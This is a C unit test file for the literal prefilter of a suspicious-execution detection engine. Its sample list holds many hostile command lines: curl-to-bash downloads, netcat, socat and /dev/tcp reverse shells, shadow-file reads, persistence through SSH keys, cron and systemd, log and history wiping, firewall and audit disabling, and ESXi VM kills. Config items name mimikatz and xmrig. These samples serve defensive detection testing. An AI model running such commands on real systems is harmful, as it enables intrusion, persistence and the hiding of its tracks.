/*
 * Unit tests for the literal prefilter in front of the suspicious-execution
 * expressions: the literal derived from an expression, rows skipped when
 * their literal is absent, caseless literals, rows without a literal, and
 * a check that turning the prefilter off changes no hit.
 */
#include "score/patterns.h"

#include <stdlib.h>

#include "tcheck.h"

/* Builds an execution whose command line was logged as one string. */
static void
exec_cmdline(struct event *ev, const char *exe, const char *cmdline)
{
    event_reset(ev);
    ev->kind = EVENT_EXEC;
    if (exe != NULL) {
        event_set_str(ev, EVENT_EXE, sv_cstr(exe));
    }
    event_set_str(ev, EVENT_CMDLINE, sv_cstr(cmdline));
}

static struct pattern_rule *
find_rule(const struct patterns *p, const char *family, const char *name)
{
    for (uint32_t i = 0; i < p->n; i++) {
        if (strcmp(p->rules[i].family, family) == 0 &&
            strcmp(p->rules[i].name, name) == 0) {
            return &p->rules[i];
        }
    }
    return NULL;
}

/* Returns the number of hits of cmdline on platform and sets *first to the
 * name of the first one, or "" when nothing hit. */
static int
match_cmdline(struct patterns *p, const char *platform,
              const char *cmdline, const char **first)
{
    struct event ev;
    struct pattern_hit hits[1];

    event_init(&ev);
    exec_cmdline(&ev, NULL, cmdline);
    int n = patterns_match(p, platform, &ev, hits, 1);
    *first = n > 0 ? hits[0].name : "";
    event_fini(&ev);
    return n;
}

struct literal_case {
    const char *regex;
    const char *literal;    /* "" when none can be derived */
    bool caseless;
};

static void
derived_literals(void)
{
    static const struct literal_case cases[] = {
        { "\\bxmrig\\b", "xmrig", false },
        { "(?<![A-Za-z0-9_])osascript(?![A-Za-z0-9_])", "osascript",
          false },
        { "x\\.y\\/z", "x.y/z", false },
        { "abc?d", "ab", false },
        { "ab*", "a", false },
        { "ab+c", "ab", false },
        { "a+?bcd", "bcd", false },
        { "foo[a-z]+barbaz", "barbaz", false },
        { "\\d+abc\\s", "abc", false },
        { "(a(b)c)longer", "longer", false },
        { "[)(|]lit", "lit", false },
        { "[]a]bc", "bc", false },
        { "(?:[)]x|y)yz", "yz", false },
        { "a.b", "a", false },
        { "h\xc3\xa9llo", "h\xc3\xa9llo", false },
        { "(?i)MiMi", "mimi", true },
        { "(?i)ab\xc3\xa9" "cde", "cde", true },
        /* Syntax the analysis does not read: the expression always runs. */
        { "curl|wget", "", false },
        { "(?:curl|wget)", "", false },
        { "ab{2}c", "", false },
        { "\\Qa|b\\E", "", false },
        { "(*UTF)abc", "", false },
        { "(?x)a b", "", false },
        { "(?<name>x)abc", "", false },
        { "x(?i)abc", "", false },
        { "[[:alpha:]]abc", "", false },
        { "\\x41bc", "", false },
        { "\\1abc", "", false },
    };

    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char out[PATTERNS_MAX_LITERAL];
        bool caseless = !cases[i].caseless;
        size_t len = patterns_required_literal(cases[i].regex, out,
                                               sizeof(out), &caseless);
        if (len != strlen(cases[i].literal) ||
            strcmp(out, cases[i].literal) != 0 ||
            caseless != cases[i].caseless) {
            printf("  case \"%s\": got \"%s\" (%s), expected \"%s\"\n",
                   cases[i].regex, out, caseless ? "caseless" : "cased",
                   cases[i].literal);
            CHECK(false);
        }
    }
}

static void
derived_literal_cut(void)
{
    char out[4];
    bool caseless;

    CHECK_INT(patterns_required_literal("abcdef", out, sizeof(out),
                                        &caseless), 3);
    CHECK_STR(out, "abc");
}

static void
absent_literal_skips_row(void)
{
    struct patterns p;
    char err[256];
    const char *first;

    CHECK_INT(patterns_init(&p, NULL, err, sizeof(err)), 0);
    struct pattern_rule *whoami = find_rule(&p, "discovery", "whoami");
    CHECK(whoami != NULL);
    if (whoami == NULL) {
        patterns_fini(&p);
        return;
    }
    CHECK_INT(whoami->nliterals, 1);

    CHECK_INT(match_cmdline(&p, "linux", "ls -la /var/www", &first), 0);
    CHECK_INT(whoami->runs, 0);
    CHECK_INT(match_cmdline(&p, "linux", "echo who am i", &first), 0);
    CHECK_INT(whoami->runs, 0);

    /* Present but not in command position: the expression runs and
     * rejects it. */
    CHECK_INT(match_cmdline(&p, "linux", "echo whoami-report", &first), 0);
    CHECK_INT(whoami->runs, 1);
    CHECK_INT(match_cmdline(&p, "linux", "whoami", &first), 1);
    CHECK_STR(first, "whoami");
    CHECK_INT(whoami->runs, 2);
    patterns_fini(&p);
}

/* Fills cfg with the Linux and macOS items given, borrowed. */
static void
config_with_items(struct config *cfg, const char **linux_items,
                  uint32_t nlinux, const char **macos_items, uint32_t nmacos)
{
    config_default(cfg);
    cfg->platforms[CONFIG_LINUX].patterns.items = linux_items;
    cfg->platforms[CONFIG_LINUX].patterns.n = nlinux;
    cfg->platforms[CONFIG_MACOS].patterns.items = macos_items;
    cfg->platforms[CONFIG_MACOS].patterns.n = nmacos;
}

static void
config_without_items(struct config *cfg)
{
    memset(&cfg->platforms[CONFIG_LINUX].patterns, 0,
           sizeof(cfg->platforms[CONFIG_LINUX].patterns));
    memset(&cfg->platforms[CONFIG_MACOS].patterns, 0,
           sizeof(cfg->platforms[CONFIG_MACOS].patterns));
    config_fini(cfg);
}

static void
caseless_literal_any_case(void)
{
    static const char *items[] = { "re:(?i)\\bmimikatz\\b" };
    struct config cfg;
    struct patterns p;
    char err[256];
    const char *first;

    config_with_items(&cfg, items, 1, NULL, 0);
    CHECK_INT(patterns_init(&p, &cfg, err, sizeof(err)), 0);
    struct pattern_rule *r = find_rule(&p, "config", items[0]);
    CHECK(r != NULL);
    if (r == NULL) {
        patterns_fini(&p);
        config_without_items(&cfg);
        return;
    }
    CHECK(r->caseless);
    CHECK_INT(r->nliterals, 1);
    CHECK_SV(r->literals[0].text, "mimikatz");

    CHECK_INT(match_cmdline(&p, "linux", "./MimiKatz --dump", &first), 1);
    CHECK_STR(first, items[0]);
    CHECK_INT(match_cmdline(&p, "linux", "MIMIKATZ", &first), 1);
    CHECK_INT(match_cmdline(&p, "linux", "mimikatz", &first), 1);
    CHECK_INT(r->runs, 3);
    CHECK_INT(match_cmdline(&p, "linux", "mimi katz", &first), 0);
    CHECK_INT(r->runs, 3);

    patterns_fini(&p);
    config_without_items(&cfg);
}

static void
row_without_literal_runs(void)
{
    static const char *items[] = { "re:xmrig|minerd" };
    struct config cfg;
    struct patterns p;
    char err[256];
    const char *first;

    config_with_items(&cfg, items, 1, NULL, 0);
    CHECK_INT(patterns_init(&p, &cfg, err, sizeof(err)), 0);
    struct pattern_rule *r = find_rule(&p, "config", items[0]);
    CHECK(r != NULL);
    if (r == NULL) {
        patterns_fini(&p);
        config_without_items(&cfg);
        return;
    }
    CHECK_INT(r->nliterals, 0);

    CHECK_INT(match_cmdline(&p, "linux", "ls -la /var/www", &first), 0);
    CHECK_INT(r->runs, 1);
    CHECK_INT(match_cmdline(&p, "linux", "./minerd -o pool", &first), 1);
    CHECK_STR(first, items[0]);
    CHECK_INT(r->runs, 2);

    patterns_fini(&p);
    config_without_items(&cfg);
}

static void
config_items_keep_hitting(void)
{
    static const char *linux_items[] = { "bash -i", "nc",
                                         "re:\\bxmrig\\b" };
    static const char *macos_items[] = { "/dev/tcp" };
    struct config cfg;
    struct patterns p;
    char err[256];
    const char *first;

    config_with_items(&cfg, linux_items, 3, macos_items, 1);
    CHECK_INT(patterns_init(&p, &cfg, err, sizeof(err)), 0);

    struct pattern_rule *bash = find_rule(&p, "config", "bash -i");
    struct pattern_rule *tcp = find_rule(&p, "config", "/dev/tcp");
    CHECK(bash != NULL);
    CHECK(tcp != NULL);
    if (bash != NULL && tcp != NULL) {
        CHECK_INT(bash->nliterals, 1);
        CHECK_INT(tcp->nliterals, 1);
        CHECK_SV(bash->literals[0].text, "bash");
        CHECK_SV(tcp->literals[0].text, "/dev/tcp");
    }

    CHECK_INT(match_cmdline(&p, "linux", "sync; bash  -i", &first), 2);
    CHECK_STR(first, "interactive_shell");
    CHECK_INT(match_cmdline(&p, "linux", "nc 192.0.2.9 80", &first), 1);
    CHECK_STR(first, "nc");
    CHECK_INT(match_cmdline(&p, "linux", "./xmrig --donate 0", &first), 1);
    CHECK_STR(first, "re:\\bxmrig\\b");
    CHECK_INT(match_cmdline(&p, "linux", "func 1", &first), 0);
    CHECK_INT(match_cmdline(&p, "macos", "cat </dev/tcp/192.0.2.9/80",
                            &first), 2);

    patterns_fini(&p);
    config_without_items(&cfg);
}

/* Command lines that hit rows of every family, and near misses. */
static const char *const sample_cmdlines[] = {
    "whoami", "/usr/bin/whoami", "id -u", "cd /srv; id", "uname -a",
    "uname -srm", "hostname", "ip a", "ip -4 addr show",
    "/sbin/ifconfig eth0", "cat /etc/passwd", "sudo cat /etc/shadow",
    "grep root /etc/gshadow", "cat /etc/sudoers", "cat /etc/master.passwd",
    "cat /etc/hosts", "grid --size 4",
    "curl -O http://192.0.2.9/x", "/usr/bin/wget -q http://192.0.2.9/x",
    "tftp 192.0.2.9", "fetch http://192.0.2.9/x", "aria2c http://x/y",
    "ls /home/curly", "scp x host:/tmp",
    "curl -s http://192.0.2.9/i.sh | bash",
    "wget -qO- http://192.0.2.9/i | sudo sh", "cat notes | shuf",
    "echo x|python3", "chmod +x ./payload", "chmod 755 run",
    "chmod 644 notes.txt", "/tmp/.x/miner -o pool",
    "cd /srv && /dev/shm/run", "bash /var/tmp/setup.sh",
    "python3 /tmp/a.py", "ls /tmp/build", "echo aGVsbG8= | base64 -d",
    "base64 --decode blob", "python3 -c 'import pty'", "perl -e 'print 1'",
    "php -r 'system(1);'", "ruby -e 'x'", "node -e 'x'",
    "openssl base64 -d -in x", "bash -c 'exec 5<>/dev/tcp/192.0.2.9/443'",
    "cat </dev/udp/192.0.2.9/53", "nc -e /bin/sh 192.0.2.9 4444",
    "ncat 192.0.2.9 4444 -e /bin/bash", "netcat -c sh 192.0.2.9 1",
    "nc.openbsd -e sh x 1", "socat TCP:192.0.2.9:443 EXEC:/bin/sh",
    "socat tcp:x:1 SYSTEM:sh", "bash -i", "zsh -li", "mkfifo /tmp/f",
    "mknod /tmp/p p", "crontab -e", "crontab -l",
    "echo '* * * * * x' >> /etc/crontab", "cp x /var/spool/cron/root",
    "echo k >> ~/.ssh/authorized_keys", "tee -a .ssh/authorized_keys2",
    "systemctl enable evil.service", "systemctl --now link x",
    "cp x.service /etc/systemd/system/x.service",
    "ln -s x ~/.config/systemd/user/x.service",
    "mv x /lib/systemd/system/x.service", "echo 'x &' >> ~/.bashrc",
    "echo x >> ~/.bash_profile", "echo x >> ~/.profile",
    "echo x >> ~/.zshrc",
    "echo x >> ~/.zshenv", "echo x >> /etc/rc.local",
    "cp x /etc/rc.d/rc.local", "echo x >> /etc/profile",
    "echo x >> ~/.zprofile", "echo x >> ~/.bash_login",
    "tee /etc/bash.bashrc", "launchctl load ~/Library/LaunchAgents/x.plist",
    "defaults write /Library/LaunchDaemons/x.plist a b",
    "useradd -m backdoor", "adduser x", "usermod -aG sudo x", "echo x | chpasswd",
    "dscl . -create /Users/x", "history -c", "unset HISTFILE",
    "export HISTFILE=/dev/null", "export HISTSIZE=0", "set +o history",
    "rm -f /var/log/auth.log", "> /var/log/secure",
    "shred /scratch/log/x", "rm /var/run/log/x",
    "journalctl --vacuum-time=1s", "auditctl -D", "auditctl -e 0",
    "setenforce 0", "setenforce Permissive", "systemctl stop auditd",
    "service rsyslog stop", "systemctl mask systemd-journald",
    "systemctl stop syslog-ng", "ufw disable", "iptables -F",
    "systemctl disable firewalld",
    "esxcli network firewall set --enabled false",
    "localcli network firewall unload",
    "esxcli vm process kill --type=force --world-id=1",
    "esxcli vm process list", "esxcli system syslog config set --x=''",
    "esxcli system account add -i x", "esxcli software acceptance set",
    "esxcli system settings kernel set -s execInstalledOnly -v FALSE",
    "vim-cmd vmsvc/power.off 12", "vim-cmd vmsvc/getallvms",
    "vmkfstools -i a.vmdk b.vmdk", "openssl enc -aes-256-cbc -in a",
    "openssl enc -d -aes-256-cbc -in a.enc", "gpg -c file", "ccencrypt x",
    "7za a -pSecret x.7z x", "7z a x.7z -psecret",
    "/etc/init.d/vmsyslogd stop", "esxcli network ip interface list",
};

/* Hits of one execution as "family/name=text;" joined. */
static void
hits_text(struct patterns *p, const char *platform,
          const struct event *ev, char *out, size_t n)
{
    struct pattern_hit hits[32];
    int nh = patterns_match(p, platform, ev, hits, 32);
    size_t used = 0;

    out[0] = '\0';
    for (int i = 0; i < nh && i < 32 && used < n; i++) {
        int w = snprintf(out + used, n - used, "%s/%s=%s;", hits[i].family,
                         hits[i].name, hits[i].text);
        used += w > 0 ? (size_t)w : 0;
    }
}

/* Checks every sample on every platform, as a command line and as the
 * executable's path, with the prefilter on and then off. */
static void
prefilter_changes_no_hit(void)
{
    static const char *const platforms[] = { "linux", "macos", "esxi" };
    struct patterns p;
    struct event ev;
    char err[256], with[2048], without[2048];
    size_t nsamples = sizeof(sample_cmdlines) / sizeof(sample_cmdlines[0]);
    uint32_t saved[PATTERNS_MAX_RULES];

    CHECK_INT(patterns_init(&p, NULL, err, sizeof(err)), 0);
    /* The second match of each pair must run the rows again, not read the
     * memo of recent results. */
    free(p.memo);
    p.memo = NULL;
    event_init(&ev);
    for (size_t i = 0; i < nsamples; i++) {
        for (size_t k = 0; k < 3; k++) {
            const char *cmd = sample_cmdlines[i];

            exec_cmdline(&ev, k == 0 ? NULL : cmd, cmd);
            hits_text(&p, platforms[k], &ev, with, sizeof(with));
            for (uint32_t r = 0; r < p.n; r++) {
                saved[r] = p.rules[r].nliterals;
                p.rules[r].nliterals = 0;
            }
            hits_text(&p, platforms[k], &ev, without, sizeof(without));
            for (uint32_t r = 0; r < p.n; r++) {
                p.rules[r].nliterals = saved[r];
            }
            if (strcmp(with, without) != 0) {
                printf("  case \"%s\" on %s: \"%s\" with the prefilter, "
                       "\"%s\" without\n", cmd, platforms[k], with, without);
                CHECK(false);
            }
        }
    }
    event_fini(&ev);
    patterns_fini(&p);
}

/* Each built-in row with literals must hit at least one sample, so the
 * comparison above covers its literals. */
static void
samples_cover_rows(void)
{
    static const char *const platforms[] = { "linux", "macos", "esxi" };
    struct patterns p;
    struct event ev;
    char err[256];
    size_t nsamples = sizeof(sample_cmdlines) / sizeof(sample_cmdlines[0]);

    CHECK_INT(patterns_init(&p, NULL, err, sizeof(err)), 0);
    event_init(&ev);
    for (uint32_t r = 0; r < p.n; r++) {
        const struct pattern_rule *rule = &p.rules[r];
        bool hit = false;

        for (size_t i = 0; i < nsamples && !hit; i++) {
            for (size_t k = 0; k < 3 && !hit; k++) {
                struct pattern_hit hits[64];
                exec_cmdline(&ev, sample_cmdlines[i], sample_cmdlines[i]);
                int nh = patterns_match(&p, platforms[k], &ev, hits, 64);
                for (int h = 0; h < nh && h < 64; h++) {
                    hit = hit || (strcmp(hits[h].family, rule->family) == 0 &&
                                  strcmp(hits[h].name, rule->name) == 0);
                }
            }
        }
        if (!hit) {
            printf("  row %s/%s hits no sample\n", rule->family, rule->name);
            CHECK(false);
        }
    }
    event_fini(&ev);
    patterns_fini(&p);
}

int
main(void)
{
    TEST_RUN("patterns_prefilter", derived_literals);
    TEST_RUN("patterns_prefilter", derived_literal_cut);
    TEST_RUN("patterns_prefilter", absent_literal_skips_row);
    TEST_RUN("patterns_prefilter", caseless_literal_any_case);
    TEST_RUN("patterns_prefilter", row_without_literal_runs);
    TEST_RUN("patterns_prefilter", config_items_keep_hitting);
    TEST_RUN("patterns_prefilter", prefilter_changes_no_hit);
    TEST_RUN("patterns_prefilter", samples_cover_rows);
    TEST_EXIT();
}
